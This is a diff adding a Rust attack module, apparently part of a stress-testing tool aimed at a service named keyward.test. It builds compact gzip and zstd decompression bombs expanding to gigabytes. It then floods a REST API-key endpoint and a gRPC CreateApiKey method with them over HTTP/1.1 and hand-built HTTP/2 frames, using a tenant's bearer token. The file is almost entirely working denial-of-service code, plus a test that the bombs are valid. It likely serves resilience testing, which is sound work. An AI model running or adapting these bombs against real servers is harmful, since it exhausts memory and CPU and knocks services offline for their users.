@@ -1,0 +1,218 @@
+//! Zip bombs: bodies of about a megabyte and less that decompress to gigabytes of one byte, over REST in
+//! gzip and zstd and over gRPC as a compressed message. With a token of some tenant's, since nobody
+//! decompresses what a stranger sends.
+
+use std::io::{self, Write};
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+use flate2::Compression;
+use flate2::write::DeflateEncoder;
+use serde_json::Value;
+use tokio::io::{AsyncWriteExt, BufReader};
+use tokio::net::TcpStream;
+
+use super::frames::{self, DATA, END_HEADERS, END_STREAM, HEADERS, MAX_PAYLOAD, WINDOW_UPDATE};
+use super::huge_headers::count_frames;
+use super::{AttackArgs, Attacker, count_statuses, storm};
+use crate::Outcome;
+
+/// How much a gzip bomb holds: as much as fits into a body of less than a mebibyte, in bytes.
+const GZIP_BYTES: usize = 960 * 1024 * 1024;
+/// What a gzip bomb repeats, in bytes.
+const PART_BYTES: usize = 16 * 1024 * 1024;
+/// How much a zstd bomb holds, in bytes.
+const ZSTD_BYTES: usize = 8 * 1024 * 1024 * 1024;
+/// The largest zstd block, in bytes.
+const ZSTD_BLOCK_BYTES: usize = 128 * 1024;
+/// How long to wait until the server says how much it takes.
+const FIRST_WINDOW_TIMEOUT: Duration = Duration::from_secs(1);
+/// What the bombs hold: in JSON, nothing but this may be without end.
+const FILL: u8 = b' ';
+
+#[derive(Debug, clap::Args)]
+pub(crate) struct ZipBombArgs {
+    #[command(flatten)]
+    attack: AttackArgs,
+    /// A session token of whoever attacks.
+    #[arg(long, env = "SIEGE_TOKEN", hide_env_values = true)]
+    token: String,
+}
+
+/// The bombs, made once.
+struct Bombs {
+    gzip: Vec<u8>,
+    zstd: Vec<u8>,
+    token: String,
+}
+
+pub(crate) async fn run(args: ZipBombArgs) -> Outcome<Value> {
+    let bombs = Arc::new(Bombs {
+        gzip: gzip()?,
+        zstd: zstd(),
+        token: args.token,
+    });
+    Ok(storm(&args.attack, |attacker| {
+        let bombs = Arc::clone(&bombs);
+        async move {
+            while attacker.goes_on() {
+                let _ = send(&attacker, &bombs).await;
+            }
+        }
+    })
+    .await)
+}
+
+async fn send(attacker: &Attacker, bombs: &Bombs) -> io::Result<()> {
+    let stream = attacker.connect().await?;
+    let since = Instant::now();
+    attacker.begin(1);
+    let ended = match attacker.number % 4 {
+        0 => over_rest(attacker, stream, bombs, "gzip", &bombs.gzip).await,
+        1 => over_rest(attacker, stream, bombs, "zstd", &bombs.zstd).await,
+        2 => over_grpc(attacker, stream, bombs, "gzip", &bombs.gzip).await,
+        _ => over_grpc(attacker, stream, bombs, "zstd", &bombs.zstd).await,
+    };
+    attacker.ended(since, ended.is_err()).await;
+    ended
+}
+
+async fn over_rest(
+    attacker: &Attacker,
+    stream: TcpStream,
+    bombs: &Bombs,
+    encoding: &str,
+    body: &[u8],
+) -> io::Result<()> {
+    let (reading, mut writing) = stream.into_split();
+    let answers = count_statuses(reading, Arc::clone(&attacker.tally), None);
+    let head = format!(
+        "POST /apikeys HTTP/1.1\r\nhost: keyward.test\r\nauthorization: Bearer {}\r\n\
+         content-type: application/json\r\ncontent-encoding: {encoding}\r\ncontent-length: {}\r\n\
+         connection: close\r\n\r\n",
+        bombs.token,
+        body.len()
+    );
+    let writing = async move {
+        writing.write_all(head.as_bytes()).await?;
+        writing.write_all(body).await?;
+        // The answer ends the connection.
+        std::future::pending::<io::Result<()>>().await
+    };
+    tokio::select! {
+        ended = writing => ended,
+        () = answers => Err(io::ErrorKind::UnexpectedEof.into()),
+    }
+}
+
+async fn over_grpc(
+    attacker: &Attacker,
+    stream: TcpStream,
+    bombs: &Bombs,
+    encoding: &str,
+    body: &[u8],
+) -> io::Result<()> {
+    let (reading, mut writing) = stream.into_split();
+    let bearer = format!("Bearer {}", bombs.token);
+    let path = "/keyward.v1.ApiKeyService/CreateApiKey";
+    let fields = [
+        ("authorization", bearer.as_str()),
+        ("content-type", "application/grpc"),
+        ("grpc-encoding", encoding),
+        ("te", "trailers"),
+    ];
+    let block = frames::request("POST", path, &fields);
+    let mut message = vec![1];
+    message.extend_from_slice(&u32::try_from(body.len()).unwrap_or(u32::MAX).to_be_bytes());
+    message.extend_from_slice(body);
+    let mut out = frames::opening(&[]);
+    frames::frame(&mut out, HEADERS, END_HEADERS, 1, &block);
+    writing.write_all(&out).await?;
+    // A body of which all fits into what the server takes, once it has said so.
+    let mut reading = BufReader::new(reading);
+    let said = async {
+        while frames::read(&mut reading)
+            .await
+            .is_ok_and(|read| read.kind != WINDOW_UPDATE)
+        {}
+    };
+    let _ = tokio::time::timeout(FIRST_WINDOW_TIMEOUT, said).await;
+    let writing = async move {
+        let mut out = Vec::new();
+        for part in message.chunks(MAX_PAYLOAD) {
+            frames::frame(&mut out, DATA, 0, 1, part);
+        }
+        frames::frame(&mut out, DATA, END_STREAM, 1, &[]);
+        writing.write_all(&out).await?;
+        std::future::pending::<io::Result<()>>().await
+    };
+    tokio::select! {
+        ended = writing => ended,
+        ended = count_frames(attacker, reading) => ended,
+    }
+}
+
+/// A gzip file of one member (RFC 1952).
+fn gzip() -> io::Result<Vec<u8>> {
+    let part = vec![FILL; PART_BYTES];
+    let mut of_part = crc32fast::Hasher::new();
+    of_part.update(&part);
+    let mut checksum = crc32fast::Hasher::new();
+    // The first part, flushed to a whole byte; each part after it is coded alike, so that the work is
+    // done twice at most.
+    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
+    encoder.write_all(&part)?;
+    encoder.flush()?;
+    let first = encoder.get_ref().len();
+    encoder.write_all(&part)?;
+    encoder.flush()?;
+    let again = encoder.get_ref()[first..].to_vec();
+    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
+    out.extend_from_slice(&encoder.get_ref()[..first]);
+    checksum.combine(&of_part);
+    for _ in 1..GZIP_BYTES / PART_BYTES {
+        out.extend_from_slice(&again);
+        checksum.combine(&of_part);
+    }
+    // An empty last block.
+    out.extend_from_slice(&[3, 0]);
+    out.extend_from_slice(&checksum.finalize().to_le_bytes());
+    let length = u32::try_from(GZIP_BYTES).unwrap_or(u32::MAX);
+    out.extend_from_slice(&length.to_le_bytes());
+    Ok(out)
+}
+
+/// A zstd frame of blocks that each repeat one byte (RFC 8878): four bytes for each 128 KiB.
+fn zstd() -> Vec<u8> {
+    const REPEATED: u32 = 1;
+    // A window of 128 KiB, and neither length nor checksum.
+    let mut out = vec![0x28, 0xb5, 0x2f, 0xfd, 0, 7 << 3];
+    let blocks = ZSTD_BYTES / ZSTD_BLOCK_BYTES;
+    let size = u32::try_from(ZSTD_BLOCK_BYTES).unwrap_or_default();
+    for block in 1..=blocks {
+        let last = u32::from(block == blocks);
+        let head = (size << 3 | REPEATED << 1 | last).to_le_bytes();
+        out.extend_from_slice(&head[..3]);
+        out.push(FILL);
+    }
+    out
+}
+
+#[cfg(test)]
+#[allow(clippy::unwrap_used, reason = "tests may panic")]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn bombs_are_small_and_valid() {
+        let gzip = gzip().unwrap();
+        assert!(gzip.len() < 1024 * 1024, "{}", gzip.len());
+        let mut out = std::io::sink();
+        let mut reading = flate2::read::GzDecoder::new(gzip.as_slice());
+        assert_eq!(
+            std::io::copy(&mut reading, &mut out).unwrap(),
+            GZIP_BYTES as u64
+        );
+        assert!(zstd().len() < 1024 * 1024);
+    }
+}
